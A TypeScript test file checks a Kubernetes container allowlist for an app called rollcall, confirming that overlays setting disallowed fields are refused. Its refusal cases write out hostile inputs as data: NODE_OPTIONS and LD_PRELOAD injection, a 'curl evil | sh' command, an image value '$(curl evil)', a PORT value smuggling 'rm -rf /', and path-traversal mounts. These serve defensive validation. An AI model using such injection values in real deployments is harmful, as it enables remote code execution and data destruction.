// What a manifest's container may set (rehearsal/model/container-allowlist.ts), case by case; the planner refuses an
// overlay that sets anything else before it starts a process, and the bundle's policy rule reports it.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { validateBundle } from '../bundle/bundle.ts';
import { repoRoot } from '../bundle/schema.ts';
import { formatProblem } from '../bundle/types.ts';
import { renderer, requireRenderer } from '../testing/support/renderer.ts';
import { checkContainerAllowlist } from '../bundle/policy-container-allowlist.ts';
import type { K8sObject } from '../bundle/types.ts';
import { checkContainer, checkPodSpec } from '../rehearsal/model/container-allowlist.ts';
import { planFromObjects } from '../rehearsal/plan.ts';

/** The app container as the base renders it. */
const app = () => ({
  name: 'rollcall',
  image: 'ghcr.io/rollcall/rollcall:1.0.0',
  imagePullPolicy: 'IfNotPresent',
  ports: [{ containerPort: 5000, name: 'http', protocol: 'TCP' }],
  env: [
    { name: 'PORT', value: '5000' },
    { name: 'HOST', value: '0.0.0.0' },
    { name: 'DATA_DIR', value: '/app/data' },
    { name: 'TIME_ZONE', value: 'Europe/Moscow' },
    { name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } },
    { name: 'SHUTDOWN_DRAIN_MS', value: '3000' },
    { name: 'LOG_LEVEL', value: 'info' },
    { name: 'BAD_RELEASE', value: 'errors:0.5' },
    { name: 'MEMORY_LIMIT_BYTES', valueFrom: { resourceFieldRef: { resource: 'limits.memory' } } },
  ],
  readinessProbe: { httpGet: { path: '/readyz', port: 'http' }, periodSeconds: 2 },
  livenessProbe: { httpGet: { path: '/healthz', port: 'http' } },
  resources: { limits: { memory: '256Mi' } },
  securityContext: { readOnlyRootFilesystem: true },
  volumeMounts: [{ name: 'web-app-data', mountPath: '/app/data' }, { name: 'tmp', mountPath: '/tmp' }],
});
const smoke = () => ({
  name: 'smoke',
  image: 'ghcr.io/rollcall/rollcall:1.0.0',
  command: ['node', '/app/hooks/smoke.js'],
  env: [{ name: 'SMOKE_NAMESPACE', valueFrom: { fieldRef: { fieldPath: 'metadata.namespace' } } }, { name: 'SMOKE_PARTITION', value: '2' }],
});

describe('checkContainer', () => {
  test("the bundle's own containers pass", () => {
    assert.deepEqual(checkContainer(app()), { ok: true });
    assert.deepEqual(checkContainer(smoke()), { ok: true });
    assert.deepEqual(checkContainer({ ...smoke(), command: ['node', '/app/hooks/recreate-hook.js'], env: [{ name: 'RECREATE_TIMEOUT_MS', value: '300000' }] }), { ok: true });
  });

  const refused: [string, (c: Record<string, unknown>) => void, string, RegExp][] = [
    ['NODE_OPTIONS (the reported attack)', (c) => (c['env'] as unknown[]).push({ name: 'NODE_OPTIONS', value: '--import=data:text/javascript,process.exit(9)' }), 'env[NODE_OPTIONS]', /not a variable a manifest may set/],
    ['LD_PRELOAD', (c) => (c['env'] as unknown[]).push({ name: 'LD_PRELOAD', value: '/tmp/x.so' }), 'env[LD_PRELOAD]', /not a variable/],
    ['PATH', (c) => (c['env'] as unknown[]).push({ name: 'PATH', value: '/tmp' }), 'env[PATH]', /not a variable/],
    ['a known name with a value out of its form', (c) => (c['env'] as unknown[]).push({ name: 'PORT', value: '5000; rm -rf /' }), 'env[PORT].value', /does not match/],
    ['DATA_DIR climbing out', (c) => (c['env'] as unknown[]).push({ name: 'DATA_DIR', value: '/app/../etc' }), 'env[DATA_DIR].value', /does not match/],
    ['a secret through valueFrom', (c) => (c['env'] as unknown[]).push({ name: 'LOG_LEVEL', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }), 'env[LOG_LEVEL].valueFrom', /only a fieldRef/],
    ['a fieldRef to something else', (c) => (c['env'] as unknown[]).push({ name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'status.hostIP' } } }), 'env[POD_NAME].valueFrom', /only a fieldRef/],
    ['envFrom', (c) => (c['envFrom'] = [{ configMapRef: { name: 'x' } }]), 'envFrom', /not allowed/],
    ['a command of its own', (c) => (c['command'] = ['sh', '-c', 'curl evil | sh']), 'command', /not one of the image's programs/],
    ['node with -e', (c) => (c['command'] = ['node', '-e', 'process.exit(1)']), 'command', /not one of the image's programs/],
    ['args', (c) => (c['args'] = ['--import=data:,x']), 'args', /no arguments/],
    ['an exec probe', (c) => (c['livenessProbe'] = { exec: { command: ['sh', '-c', 'id'] } }), 'livenessProbe.exec', /exec runs a command/],
    ['a lifecycle hook', (c) => (c['lifecycle'] = { preStop: { exec: { command: ['sh'] } } }), 'lifecycle', /not a container field/],
    ['workingDir', (c) => (c['workingDir'] = '/'), 'workingDir', /not a container field/],
    ['a mount elsewhere', (c) => (c['volumeMounts'] as unknown[]).push({ name: 'host', mountPath: '/host' }), 'volumeMounts[2].mountPath', /not one of/],
    ['a subPath', (c) => (c['volumeMounts'] as unknown[]).push({ name: 'tmp', mountPath: '/tmp', subPath: '../..' }), 'volumeMounts[2].subPath', /not allowed/],
    ['an image that is not a reference', (c) => (c['image'] = '$(curl evil)'), 'image', /is not an image reference/],
    ['an image without tag or digest', (c) => (c['image'] = 'ghcr.io/rollcall/rollcall'), 'image', /is not an image reference with a tag or digest/],
  ];
  for (const [name, mutate, field, reason] of refused) {
    test(`refuses ${name}, naming ${field}`, () => {
      const container = app() as Record<string, unknown>;
      mutate(container);
      const result = checkContainer(container);
      assert.equal(result.ok, false);
      if (result.ok) return;
      assert.equal(result.field, field);
      assert.match(result.reason, reason);
    });
  }
});

describe('checkPodSpec', () => {
  test('checks init containers and volumes too, naming the container', () => {
    assert.deepEqual(checkPodSpec({ containers: [app()], volumes: [{ name: 'tmp', emptyDir: {} }] }), { ok: true });
    assert.deepEqual(checkPodSpec({ initContainers: [{ ...smoke(), command: ['sh'] }], containers: [app()] }), {
      ok: false,
      field: 'initContainers[smoke].command',
      reason: "[\"sh\"] is not one of the image's programs (node /app/hooks/smoke.js; node /app/hooks/recreate-hook.js; node /app/hooks/load.js); leave it unset for the service",
    });
    const host = checkPodSpec({ containers: [app()], volumes: [{ name: 'root', hostPath: { path: '/' } }] });
    assert.equal(host.ok === false && host.field, 'volumes[root].hostPath');
  });
});

const statefulSet = (container: unknown): K8sObject => ({
  apiVersion: 'apps/v1',
  kind: 'StatefulSet',
  metadata: { name: 'rollcall', namespace: 'rollcall-parallel' },
  spec: { replicas: 3, podManagementPolicy: 'Parallel', template: { spec: { containers: [container] } } },
});

describe('the rehearsal and the bundle refuse what the allowlist refuses', () => {
  const attack = { ...app(), env: [...app().env, { name: 'NODE_OPTIONS', value: '--import=data:text/javascript,console.log(1)' }] };

  test('planFromObjects refuses the overlay before any process starts, naming the object and field', () => {
    assert.throws(() => planFromObjects('parallel', [statefulSet(attack)]), /parallel: StatefulSet\/rollcall spec\.template\.spec\.containers\[rollcall\]\.env\[NODE_OPTIONS\]: NODE_OPTIONS is not a variable a manifest may set/);
    assert.equal(planFromObjects('parallel', [statefulSet(app())]).replicas, 3);
  });

  test('the validation policy rule reports it as a problem of the overlay', () => {
    const problems = checkContainerAllowlist('parallel', [statefulSet(attack)]);
    assert.equal(problems.length, 1);
    assert.equal(problems[0]!.object, 'StatefulSet/rollcall');
    assert.equal(problems[0]!.field, 'spec.template.spec.containers[rollcall].env[NODE_OPTIONS]');
    assert.deepEqual(checkContainerAllowlist('parallel', [statefulSet(app())]), []);
  });

  test('a pod process is never started with a variable outside the allowlist', async () => {
    const { PodProcess } = await import('../rehearsal/run/pod-process.ts');
    assert.throws(() => new PodProcess({ name: 'rollcall-0', version: '1', dataDir: '/nonexistent', env: { NODE_OPTIONS: '--import=data:,1' } }), /env\[NODE_OPTIONS\]/);
  });

  test('`npm run validate` (validateBundle with real kustomize) refuses NODE_OPTIONS added by an overlay patch', async (t) => {
    if (!requireRenderer(t)) return;
    const root = mkdtempSync(join(tmpdir(), 'rollcall-allowlist-'));
    try {
      for (const d of ['kustomize', 'argocd']) cpSync(join(repoRoot, d), join(root, d), { recursive: true });
      const patch = join(root, 'kustomize/overlays/parallel/statefulset-patch.yaml');
      writeFileSync(patch, `${readFileSync(patch, 'utf8')}  template:\n    spec:\n      containers:\n        - name: rollcall\n          env:\n            - name: NODE_OPTIONS\n              value: --import=data:text/javascript,console.log(1)\n`);
      const report = await validateBundle(root, renderer);
      const all = report.problems.map(formatProblem).join('\n');
      assert.match(all, /\[parallel\] StatefulSet\/rollcall spec\.template\.spec\.containers\[rollcall\]\.env\[NODE_OPTIONS\]: NODE_OPTIONS is not a variable a manifest may set/);
      assert.doesNotMatch(all, /\[(rolling|canary|recreate)\].*container allowlist/, 'the untouched overlays pass the allowlist');
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
